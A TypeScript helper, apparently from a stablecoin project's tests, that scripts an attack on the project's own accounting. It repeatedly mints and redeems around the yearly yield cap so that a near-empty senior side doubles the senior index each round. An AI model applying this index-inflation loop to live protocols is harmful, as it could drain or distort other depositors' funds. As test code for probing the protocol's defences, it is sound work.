import {
  SECONDS_PER_YEAR,
  type StablecoinState,
  U64_MAX,
} from '../../../../packages/core/src/accounting/index.ts';

/** What an attacker needs: a coin that takes 100 % commission, so that its rate stays 1:1, and cash. */
type Attacker = {
  readonly state: () => Pick<StablecoinState, 'seniorAssets' | 'seniorIndex' | 'capRemainder'>;
  readonly mint: (amount: bigint) => void;
  readonly redeem: (tokens: bigint) => void;
  readonly wait: (seconds: bigint) => void;
  readonly sync: () => void;
};

const maxRounds = 40;

/**
 * Grows the senior index with a nearly empty senior side, while yield is due. A round fills the remainder of the yearly cap with a large
 * deposit for one second, redeems down to the fewest units, and waits for the second in which the remainder releases one whole unit:
 * with one unit left, the index doubles. Ends where one more unit per million would not fit 64 bits.
 */
export function growIndex({ state, mint, redeem, wait, sync }: Attacker): void {
  for (let round = 0; round < maxRounds; round++) {
    const { seniorIndex, seniorAssets, capRemainder } = state();
    // the smallest senior side whose growth by one unit fits the index
    const left = seniorIndex / (U64_MAX - seniorIndex) + 1n;
    if (left > 1_000_000n) return;
    const amount = SECONDS_PER_YEAR - 1n - capRemainder - seniorAssets;
    if (amount > 0n) {
      mint(amount);
      wait(1n);
      redeem(amount + seniorAssets - left);
    }
    wait(1n);
    sync();
  }
}
